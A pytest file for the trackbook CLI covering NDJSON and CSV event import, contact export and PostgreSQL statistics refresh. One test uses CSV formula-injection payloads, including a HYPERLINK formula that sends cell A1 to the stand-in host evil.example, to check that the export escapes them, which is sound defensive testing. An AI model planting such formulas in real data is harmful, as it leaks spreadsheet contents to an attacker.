"""trackbook import and export, through the CLI as an operator runs them."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from pathlib import Path

import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from tests.test_cli import invoke
from trackbook.cli import app
from trackbook.db.engine import Database
from trackbook.transfer import IMPORTED_TABLES, STATISTICS_AFTER


def new_account(cli: CliRunner, name: str) -> str:
    found = re.search(r"id: (\d+)", invoke(cli, "accounts", "create", name))
    assert found is not None
    return found[1]


def exported(cli: CliRunner, account: str, what: str = "events") -> list[dict]:
    output = invoke(cli, "export", what, "--account", account)
    return [json.loads(line) for line in output.splitlines() if line.startswith("{")]


def test_ndjson_import_reports_rejected_lines_and_a_rerun_stores_nothing_twice(
    cli: CliRunner, tmp_path: Path
) -> None:
    account = new_account(cli, "Importer")
    lines = [
        {
            "event": "signup",
            "contact": {"email": "a@example.com"},
            "timestamp": "2024-01-02T03:04:05Z",
        },
        {
            "event": "purchase",
            "contact": {"email": "a@example.com"},
            "value": 9.5,
            "message_id": "o-1",
        },
        "{not json",
        {"event": "", "contact": {"email": "b@example.com"}},
        {"event": "login", "contact": {"external_id": "u-7"}, "properties": {"plan": "pro"}},
        {
            "event": "later",
            "contact": {"email": "c@example.com"},
            "timestamp": "2999-01-01T00:00:00Z",
        },
    ]
    file = tmp_path / "events.ndjson"
    file.write_text(
        "\n".join(line if isinstance(line, str) else json.dumps(line) for line in lines) + "\n"
    )
    first = cli.invoke(app, ["import", str(file), "--account", account])
    assert first.exit_code == 1, first.output
    assert "read 6, stored 3, already there 0, rejected 3" in first.output
    assert re.search(r"line 3: .*not valid JSON", first.output)
    # the fields as the row names them, as /v1/track answers them
    assert re.search(r"line 4: event must be 1 to 255 characters", first.output)
    assert re.search(r"line 6: timestamp is more than 10 minutes in the future", first.output)

    again = cli.invoke(app, ["import", str(file), "--account", account])
    assert "read 6, stored 0, already there 3, rejected 3" in again.output
    stored = exported(cli, account)
    assert [(e["event"], e["email"] or e["external_id"]) for e in stored] == [
        ("signup", "a@example.com"),
        ("purchase", "a@example.com"),
        ("login", "u-7"),
    ]
    assert stored[0]["occurred_at"].startswith("2024-01-02T03:04:05")
    assert stored[1]["value"] == "9.5"
    assert stored[2]["properties"] == {"plan": "pro"}
    assert {e["source"] for e in stored} == {"import"}


def test_csv_import_with_a_column_mapping_and_a_dry_run(cli: CliRunner, tmp_path: Path) -> None:
    account = new_account(cli, "CSV importer")
    file = tmp_path / "orders.csv"
    file.write_text(
        "Email,Action,When,Plan,Ignore me\n"
        "c@example.com,upgrade,2025-05-01T10:00:00+02:00,pro,x\n"
        "d@example.com,upgrade,1746086400,team,y\n"
        ",upgrade,2025-05-01T10:00:00Z,pro,z\n"
    )
    options = ["--map", "Email=contact.email", "--map", "Action=event", "--map", "When=timestamp"]
    options += ["--map", "Ignore me=-"]
    dry = cli.invoke(app, ["import", str(file), "--account", account, "--dry-run", *options])
    assert "read 3, would store 2, already there 0, rejected 1" in dry.output
    assert re.search(r"line 4: contact", dry.output)
    assert exported(cli, account) == []

    result = cli.invoke(app, ["import", str(file), "--account", account, *options])
    assert "stored 2" in result.output
    output = invoke(cli, "export", "events", "--account", account, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(output[output.index("id,") :])))
    assert [(r["email"], r["event"], json.loads(r["properties"])) for r in rows] == [
        ("c@example.com", "upgrade", {"Plan": "pro"}),
        ("d@example.com", "upgrade", {"Plan": "team"}),
    ]
    assert rows[0]["occurred_at"].startswith("2025-05-01T08:00:00")


def test_csv_export_escapes_cells_a_spreadsheet_would_run_as_formulas(
    cli: CliRunner, tmp_path: Path
) -> None:
    account = new_account(cli, "Formulas")
    link = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    lines = [
        {"event": "signup", "contact": {"email": "f@example.com"}, "title": link, "value": -12.5},
        {"event": "+cmd", "contact": {"external_id": "@SUM(1+1)"}, "value": "-1+1"},
    ]
    file = tmp_path / "events.ndjson"
    file.write_text("".join(json.dumps(line) + "\n" for line in lines))
    assert "stored 2" in invoke(cli, "import", str(file), "--account", account)
    output = invoke(cli, "export", "events", "--account", account, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(output[output.index("id,") :])))
    assert [(r["event"], r["title"], r["value"], r["external_id"]) for r in rows] == [
        ("signup", "'" + link, "-12.5", ""),
        ("'+cmd", "", "'-1+1", "'@SUM(1+1)"),
    ]
    # NDJSON is no spreadsheet's: its values stay as they were
    assert [e["title"] for e in exported(cli, account)] == [link, None]


def test_export_contacts_to_a_file(cli: CliRunner, tmp_path: Path) -> None:
    account = new_account(cli, "Exporter")
    file = tmp_path / "in.ndjson"
    file.write_text(
        "".join(
            json.dumps({"event": "visit", "contact": {"email": f"p{n}@example.com"}}) + "\n"
            for n in range(1500)
        )
    )
    assert "stored 1500" in invoke(cli, "import", str(file), "--account", account)
    target = tmp_path / "contacts.ndjson"
    invoke(cli, "export", "contacts", "--account", account, "--output", str(target))
    contacts = [json.loads(line) for line in target.read_text().splitlines()]
    assert len(contacts) == 1500
    assert len({c["email"] for c in contacts}) == 1500
    assert set(contacts[0]) == {
        "id", "email", "external_id", "first_name", "last_name", "status", "created_at",
        "updated_at",
    }  # fmt: skip


def test_a_large_import_refreshes_the_postgresql_statistics(
    cli: CliRunner, tmp_path: Path, database_url: str
) -> None:
    """Without it the writer's message-id look-up scanned every key of the account once
    the import had outgrown the statistics (the 1,000,000-event import benchmark)."""
    if not database_url.startswith("postgresql"):
        pytest.skip("SQLite's planner keeps no statistics to refresh")
    account = new_account(cli, "Bulk loader")
    file = tmp_path / "bulk.ndjson"
    batch = 5
    rows = STATISTICS_AFTER * batch * 2 + 1  # past the first two refreshes
    file.write_text(
        "".join(
            json.dumps({"event": "visit", "contact": {"email": f"s{n % 50}@example.com"}}) + "\n"
            for n in range(rows)
        )
    )

    def analyzed() -> dict[str, int]:
        async def read() -> dict[str, int]:
            db = Database(database_url)
            try:
                async with db.read() as connection:
                    counts = await connection.execute(
                        sa.text(
                            "SELECT relname, analyze_count FROM pg_stat_user_tables "
                            "WHERE relname = ANY(:tables)"
                        ),
                        {"tables": list(IMPORTED_TABLES)},
                    )
                    return {row.relname: row.analyze_count for row in counts}
            finally:
                await db.dispose()

        return asyncio.run(read())

    before = analyzed()
    output = invoke(cli, "import", str(file), "--account", account, "--batch", str(batch))
    assert f"stored {rows}" in output
    after = analyzed()
    assert set(after) == set(IMPORTED_TABLES)
    assert all(after[table] >= before.get(table, 0) + 2 for table in IMPORTED_TABLES), after
